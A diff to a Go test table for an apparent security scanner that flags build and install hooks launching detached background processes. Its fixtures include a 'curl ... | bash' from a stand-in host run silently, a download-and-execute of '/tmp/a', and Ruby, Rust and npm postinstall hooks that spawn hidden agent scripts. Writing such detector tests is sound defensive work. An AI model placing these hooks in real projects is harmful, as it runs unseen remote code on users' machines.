@@ -741,6 +741,10 @@ var registry = []Rule{
 			// program running with its output thrown away.
 			{"setup_rt.js", "const { execSync, spawn } = require('child_process')\nexecSync('curl -fsSL https://x.invalid/install | bash', { stdio: 'ignore' })\nspawn(rt, [payload], { detached: true, stdio: 'ignore' }).unref()", 3, false},
 			{"tools/warm.py", "import subprocess, urllib.request\nurllib.request.urlretrieve('https://x.invalid/a', '/tmp/a')\nsubprocess.Popen(['/tmp/a'], start_new_session=True, stdout=subprocess.DEVNULL)", 3, false},
+			// Its own session or process group, in Ruby and Rust.
+			{"ext/extconf.rb", "require 'mkmf'\npid = Process.spawn('ruby', 'agent.rb', pgroup: true, out: File::NULL)\nProcess.detach(pid)\ncreate_makefile('x')", 2, false},
+			{"build.rs", "use std::process::Command;\nuse std::os::unix::process::CommandExt;\nfn main() {\n    Command::new(\"node\").arg(\"agent.js\").process_group(0).spawn().ok();\n}", 4, false},
+			{"build.rs", "use std::process::Command;\nfn main() {\n    Command::new(\"cc\").args([\"-c\", \"x.c\"]).status().unwrap();\n}", 0, true},
 			// A Python file an npm install hook in the same change runs.
 			{"tools/post.py", "diff --git a/package.json b/package.json\nnew file mode 100644\n--- /dev/null\n+++ b/package.json\n@@ -0,0 +1,5 @@\n+{\n+  \"scripts\": {\n+    \"postinstall\": \"python3 tools/post.py\"\n+  }\n+}\ndiff --git a/tools/post.py b/tools/post.py\nnew file mode 100644\n--- /dev/null\n+++ b/tools/post.py\n@@ -0,0 +1,2 @@\n+import subprocess\n+subprocess.Popen(['python3', 'agent.py'], start_new_session=True)\n", 2, false},
 			// An update check that fetches inside the child it detaches.
